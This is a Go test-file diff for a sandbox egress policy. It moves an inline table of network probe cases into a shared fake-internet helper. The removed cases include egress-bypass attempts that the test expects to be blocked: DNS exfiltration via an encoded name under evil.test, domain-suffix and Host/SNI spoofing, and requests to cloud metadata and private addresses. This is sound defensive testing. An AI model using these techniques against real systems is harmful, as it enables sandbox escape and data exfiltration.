@@ -77,15 +77,9 @@ func runInNetns(t *testing.T, child string) {
 	t.Logf("%s", out)
 }
 
-type probeOp = map[string]string
+type probeOp = fakenet.Probe
 
-type probeResult struct {
-	OK    bool     `json:"ok"`
-	Err   string   `json:"err"`
-	Body  string   `json:"body"`
-	Addrs []string `json:"addrs"`
-	MS    int64    `json:"ms"`
-}
+type probeResult = fakenet.ProbeResult
 
 func netCall(pol egress.Policy, ops ...probeOp) sandbox.Call {
 	in, _ := json.Marshal(map[string]any{"ops": ops})
@@ -150,81 +144,9 @@ func TestEgressFakeInternet(t *testing.T) { runInNetns(t, "TestEgressFakeInterne
 func TestEgressFakeInternetChild(t *testing.T) {
 	in, gate := fakeInternet(t)
 	s := newSandbox(t, func(c *Config) { c.Gate = gate; c.PoolSize = -1 })
-	pol := policy(t, "**.allowed.test:80", "**.allowed.test:443")
-	other := "other.test"
-	cases := []struct {
-		name string
-		op   probeOp
-		ok   bool
-	}{
-		{"allowed name over http", probeOp{"op": "http", "url": "http://api.allowed.test/"}, true},
-		{"allowed name over https", probeOp{"op": "http", "url": "https://api.allowed.test/", "ca": in.CA}, true},
-		{"non-allowed name", probeOp{"op": "http", "url": "http://" + other + "/"}, false},
-		{"non-allowed name by its address, Host header", probeOp{"op": "tcp", "addr": fakenet.OtherIP + ":80", "host": other}, false},
-		{"bare IP literal", probeOp{"op": "http", "url": "http://" + fakenet.OtherIP + "/"}, false},
-		{"bare IP literal, allowed address", probeOp{"op": "tcp", "addr": fakenet.AllowedIP + ":80", "host": fakenet.AllowedIP}, false},
-		{"suffix trick evilallowed.test", probeOp{"op": "http", "url": "http://evilallowed.test/"}, false},
-		{"suffix trick allowed.test.evil.test", probeOp{"op": "http", "url": "http://allowed.test.evil.test/"}, false},
-		{"suffix trick by Host header", probeOp{"op": "tcp", "addr": fakenet.OtherIP + ":80", "host": "evilallowed.test"}, false},
-		{"redirect to a denied host", probeOp{"op": "http", "url": "http://api.allowed.test/redirect"}, false},
-		{"allowed name resolving to the metadata address", probeOp{"op": "http", "url": "http://meta.allowed.test/"}, false},
-		{"allowed name resolving to loopback", probeOp{"op": "http", "url": "http://local.allowed.test/"}, false},
-		{"allowed name resolving to 10.x", probeOp{"op": "http", "url": "http://ten.allowed.test/"}, false},
-		{"metadata address directly", probeOp{"op": "tcp", "addr": fakenet.MetadataIP + ":80", "host": fakenet.MetadataIP}, false},
-		{"10.x directly", probeOp{"op": "tcp", "addr": fakenet.TenIP + ":80", "host": fakenet.TenIP}, false},
-		// An allowed Host header sent to another address reaches the allowed host (the proxy
-		// dials the name), never the address.
-		{"metadata address with an allowed Host", probeOp{"op": "tcp", "addr": fakenet.MetadataIP + ":80", "host": "api.allowed.test"}, true},
-		{"10.x with an allowed Host", probeOp{"op": "tcp", "addr": fakenet.TenIP + ":80", "host": "api.allowed.test"}, true},
-		{"allowed name on a port not granted", probeOp{"op": "tcp", "addr": fakenet.AllowedIP + ":8080", "host": "api.allowed.test"}, false},
-		{"ipv6", probeOp{"op": "tcp", "addr": "[2001:db8::10]:443"}, false},
-		{"udp/quic to the allowed host", probeOp{"op": "udp", "addr": fakenet.AllowedIP + ":443"}, false},
-		{"udp to a canary", probeOp{"op": "udp", "addr": fakenet.TenIP + ":53000"}, false},
-		{"dns exfiltration by name", probeOp{"op": "dns", "name": "c2VjcmV0.evil.test"}, false},
-		{"dns TXT of an allowed name", probeOp{"op": "dns", "name": "api.allowed.test", "type": "TXT"}, false},
-		{"dns straight to the DNS server over udp", probeOp{"op": "dnsat", "addr": fakenet.DNSIP + ":53", "name": "c2VjcmV0Mg.evil.test"}, false},
-		{"dns over tls to the DNS server", probeOp{"op": "tcp", "addr": fakenet.DNSIP + ":853"}, false},
-	}
-	var ops []probeOp
-	for _, c := range cases {
-		ops = append(ops, c.op)
-	}
-	// SNI that disagrees with the destination: the proxy dials the name, not the address the
-	// tool chose, so the handshake reaches api.allowed.test and the other host sees nothing.
-	ops = append(ops, probeOp{"op": "tls", "addr": fakenet.OtherIP + ":443", "sni": "api.allowed.test", "ca": in.CA})
-	res := runProbe(t, s, netCall(pol, ops...))
-	if len(res) != len(ops) {
-		t.Fatalf("%d results for %d ops", len(res), len(ops))
-	}
-	for i, c := range cases {
-		r := res[i]
-		if r.OK != c.ok {
-			t.Errorf("%s: ok=%v (err %q, body %q), want ok=%v", c.name, r.OK, r.Err, r.Body, c.ok)
-		}
-		if c.ok && !strings.HasSuffix(r.Body, fakenet.AllowedBody) {
-			t.Errorf("%s: body %q", c.name, r.Body)
-		}
-		if !c.ok && r.MS > 2500 {
-			t.Errorf("%s: refused only after %d ms (%s)", c.name, r.MS, r.Err)
-		}
-	}
-	if sni := res[len(res)-1]; sni.OK && strings.Contains(sni.Body, "canary") {
-		t.Errorf("SNI/destination mismatch reached the destination: %q", sni.Body)
-	}
-	if h := in.Hits(); len(h) != 0 {
-		t.Errorf("canaries hit: %v", h)
-	}
-	if q := in.QueriedOutside("api.allowed.test", "meta.allowed.test", "local.allowed.test", "ten.allowed.test"); len(q) != 0 {
-		t.Errorf("the DNS server was asked %v", q)
-	}
-	for _, q := range in.Queries() {
-		if strings.HasSuffix(q, " TXT") {
-			t.Errorf("a TXT query reached the DNS server: %s", q)
-		}
-	}
-	if in.AllowedServed() < 4 {
-		t.Errorf("api.allowed.test served %d requests, want 4", in.AllowedServed())
-	}
+	pol := policy(t, fakenet.EgressPatterns...)
+	cases := in.EgressCases()
+	in.CheckEgress(t, cases, runProbe(t, s, netCall(pol, fakenet.EgressOps(cases)...)), 2500)
 
 	// The runtime binaries join the same namespaces.
 	for _, be := range []string{BackendCrun, BackendRunc} {
@@ -252,7 +174,7 @@ func TestEgressFakeInternetChild(t *testing.T) {
 	}
 
 	// A tool without a policy has loopback only, in the same sandbox.
-	res = runProbe(t, s, netCall(egress.Policy{}, probeOp{"op": "http", "url": "http://api.allowed.test/"}, probeOp{"op": "tcp", "addr": fakenet.AllowedIP + ":80"}))
+	res := runProbe(t, s, netCall(egress.Policy{}, probeOp{"op": "http", "url": "http://api.allowed.test/"}, probeOp{"op": "tcp", "addr": fakenet.AllowedIP + ":80"}))
 	for _, r := range res {
 		if r.OK {
 			t.Errorf("a tool without a policy reached the network: %+v", r)
